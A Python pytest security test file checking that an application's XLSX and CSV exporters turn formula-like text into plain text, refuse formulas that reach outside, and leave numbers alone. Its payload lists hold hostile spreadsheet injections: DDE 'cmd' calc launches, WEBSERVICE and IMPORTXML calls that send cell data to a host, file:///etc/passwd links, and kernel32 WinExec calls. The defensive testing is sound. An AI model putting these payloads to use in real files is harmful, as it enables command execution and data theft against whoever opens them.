"""Formula injection (S2): texts stay texts in XLSX and CSV, what reaches out is refused, numbers are unharmed."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from forgeapp.domain.artifact import Format
from forgeapp.domain.content import Content
from forgeapp.domain.document import Document, Heading, Run, TableBlock, plain_text
from forgeapp.domain.export_options import USUAL, Delimiter, ExportOptions
from forgeapp.domain.table import Table
from forgeapp.domain.workbook import TEXT_FORMAT, Cell, Sheet, Workbook
from forgeapp.errors import UnsafeContent
from forgeapp.exporters.registry import exporter_for
from forgeapp.services.exporting.job import ExportJob, export_task
from forgeapp.services.exporting.publishing import publication
from forgeapp.services.importing.job import ImportJob, imported

pytestmark = pytest.mark.security

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-x",
    "- item",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "＝1+1",
    "＋1+A1",
    "＠SUM(1)",
    '=HYPERLINK("file:///etc/passwd","x")',
    '=WEBSERVICE("http://x/?"&A1)',
    '=IMPORTXML(CONCAT("http://x?",A1),"//a")',
    "%0A=1+1",
    "x;=1+1",
    "<f>1+1</f>",
    "</t></is></c><c><f>1+1</f>",
    "{=1+1}",
    "_x003D_1+1",
    "=",
    "@",
    "==1",
    "\r=1+1",
    "\u2028=1+1",
    "﹦1+1",
    "=1+1\t=2+2",
    '","=1+1',
    '=RTD("x",,"y")',
    '=CALL("kernel32","WinExec","JCJ","calc",0)',
)
UNHARMED = ("-15", "-15.5", "+5", "-1,240.50", "+44 20 7946 0000", "+1", "-", "--", "—", "it's", "'tis", "5-3", "a=b")
CONTENTS = [
    Table("T", ("Text", "x"), tuple((text, "y") for text in PAYLOADS)),
    Document(
        "D", "| Text | x |\n|---|---|\n" + "".join(f"| `{text}` | y |\n" for text in PAYLOADS if "\n" not in text)
    ),
    Workbook("W", (Sheet("S", {(row, 0): Cell(text, None, TEXT_FORMAT) for row, text in enumerate(PAYLOADS)}),)),
]


def written(content: Content, path: Path, options: ExportOptions = USUAL) -> Path:
    export_task(ExportJob(content, "T", {}, path, Format(path.suffix[1:]), options=options), lambda share: None)
    return path


def formulas_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        return [str(each.text) for name in sheets for each in etree.fromstring(package.read(name)).iter("{*}f")]


@pytest.mark.parametrize("content", CONTENTS, ids=["table", "document", "spreadsheet"])
def test_no_text_becomes_a_formula_in_xlsx(tmp_path: Path, content: Content) -> None:
    path = written(content, tmp_path / "x.xlsx")
    assert formulas_in(path) == []
    page = load_workbook(path).worksheets[0]
    texts = [cell.value for cell in page["A"] if cell.value is not None]
    assert len(texts) >= len(PAYLOADS) - 3
    assert all(isinstance(text, str) for text in texts)


def test_what_stands_behind_a_spreadsheet_is_text_whatever_it_looks_like(tmp_path: Path) -> None:
    cells = [(Run(text),) for text in ('=WEBSERVICE("http://x")', "=1+1", "=cmd|' /C calc'!A0", "TRUE")]
    facts = TableBlock(header=((Run("=Asked"),),), rows=tuple((cell,) for cell in cells), alignments=(None,))
    content = Workbook("W", (Sheet("S", {(0, 0): Cell("=1+1")}, has_header=False),))
    path = tmp_path / "x.xlsx"
    job = ExportJob(content, "W", {"S": {(0, 0): 2}}, path, Format.XLSX, appendix=(Heading(2, (Run("Facts"),)), facts))
    export_task(job, lambda share: None)
    assert formulas_in(path) == ["1+1"]
    page = load_workbook(path)["Facts"]
    assert [cell.value for cell in page["A"]] == ["=Asked", *(plain_text(cell) for cell in cells)]
    assert {cell.data_type for cell in page["A"]} == {"s"}


@pytest.mark.parametrize("delimiter", Delimiter)
def test_no_field_of_a_csv_file_begins_like_a_formula(tmp_path: Path, delimiter: Delimiter) -> None:
    for number, content in enumerate(CONTENTS[::2]):
        path = written(content, tmp_path / f"{number}.csv", ExportOptions(delimiter=delimiter))
        with path.open(encoding="utf-8-sig", newline="") as file:
            fields = [field for row in csv.reader(file, delimiter=delimiter.value) for field in row]
        assert len(fields) >= len(PAYLOADS)
        assert [field for field in fields if field.strip(' \t\n\u00a0\u200b\ufeff"')[:1] in set("=+-@＝＋－＠")] == []


@pytest.mark.parametrize("delimiter", Delimiter)
def test_our_own_reader_gives_back_the_texts_without_their_guards(tmp_path: Path, delimiter: Delimiter) -> None:
    rows = tuple((text, str(number)) for number, text in enumerate((*PAYLOADS, *UNHARMED)))
    table = Table("T", ("=Text", "No."), rows)
    path = written(table, tmp_path / "T.csv", ExportOptions(delimiter=delimiter))
    came = imported(ImportJob(path)).content
    assert isinstance(came, Table)
    seen = tuple((text.strip("\u200b\ufeff").replace("\r", "\n"), number) for text, number in rows)
    assert (came.columns, came.rows) == (table.columns, seen)


def test_texts_of_a_sheet_stay_texts_when_its_csv_file_returns(tmp_path: Path) -> None:
    sheet = Sheet("S", {(0, 0): Cell("Text"), (1, 0): Cell("=SUM(1,2)", None, TEXT_FORMAT), (1, 1): Cell("x")})
    path = written(Workbook("W", (sheet,)), tmp_path / "S.csv")
    again = imported(ImportJob(path)).content
    assert isinstance(again, Table)
    assert again.rows == (("=SUM(1,2)", "x"),)


def test_numbers_phone_numbers_and_dashes_are_unharmed(tmp_path: Path) -> None:
    table = Table("T", ("A", "B"), tuple((text, "-15") for text in UNHARMED))
    with written(table, tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file))[1:] == [[text, "-15"] for text in UNHARMED]
    page = load_workbook(written(table, tmp_path / "x.xlsx")).worksheets[0]
    assert [cell.value for cell in page["A"]][1:] == list(UNHARMED)
    assert {cell.value for cell in page["B"]} == {"B", -15}


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\..\\cmd.exe /c calc'!''",
        '=DDE("soffice","x","y")',
        '=WEBSERVICE("http://x")',
        '=_xlfn.WEBSERVICE("http://x")',
        '=ＷＥＢＳＥＲＶＩＣＥ("http://x")',
        '=ORG.LIBREOFFICE.WEBSERVICE("http://x")',
        '=LET(f,WEBSERVICE,f("http://x"))',
        '=IMPORTDATA("http://x")',
        '=IMPORTRANGE("http://x","A1")',
        "=[Book.xlsx]Sheet1!A1",
        "='C:\\temp\\[Book.xlsx]S'!A1",
        "='/home/x/[Book.xlsx]S'!A1",
        "=\\\\server\\share!A1",
        "='\\\\server\\share\\[b.xlsx]S'!A1",
        "='file:///etc/passwd'#$Sheet1.A1",
        "=INDIRECT(\"'[Book.xlsx]S'!A1\")",
        "=INDIRECT(\"'file:///etc/passwd'#$Sheet1.A1\")",
        '=INDIRECT("[Book.xlsx]S!A"&B1)',
        '=INDIRECT("\'http:/"&"/x\'#"&"$S.A1")',
        '=HYPERLINK("file:///etc/passwd","x")',
        '=HYPERLINK("javascript:alert(1)","x")',
        '=HYPERLINK("\\\\server\\x","x")',
        '=HYPERLINK(A1,"x")',
        '=RTD("prog",,"topic")',
        '=CALL("kernel32","WinExec","JCJ","calc",0)',
        '=REGISTER.ID("kernel32","WinExec")',
        '=EXEC("calc")',
        '=SEND.KEYS("calc")',
        "=EVALUATE(A1)",
        '=FILES("/*")',
        '=IF(FALSE,WEBSERVICE("http://x"),1)',
    ],
)
@pytest.mark.parametrize("file_format", [Format.XLSX, Format.CSV])
def test_what_reaches_out_is_refused_and_its_cell_named(tmp_path: Path, formula: str, file_format: Format) -> None:
    book = Workbook("W", (Sheet("First", {(0, 0): Cell("x")}), Sheet("S", {(6, 1): Cell(formula)})))
    if file_format is Format.CSV:
        book = Workbook("W", book.sheets[1:])
    exporter = exporter_for(file_format)
    with pytest.raises(UnsafeContent, match="S!B7") as caught:
        exporter.write(publication(book, "W", {}), tmp_path / "x", lambda share: None)
    assert str(caught.value)
    assert list(tmp_path.iterdir()) == []


def test_what_stays_inside_is_written_as_a_formula(tmp_path: Path) -> None:
    texts = ['=HYPERLINK("https://example.org","x")', "=-15", "=+A1", '=INDIRECT("A"&1)', '="cmd|x"&A1']
    sheet = Sheet("S", {(row, 1): Cell(text) for row, text in enumerate(texts)}, has_header=False)
    assert formulas_in(written(Workbook("W", (sheet,)), tmp_path / "x.xlsx")) == [text[1:] for text in texts]
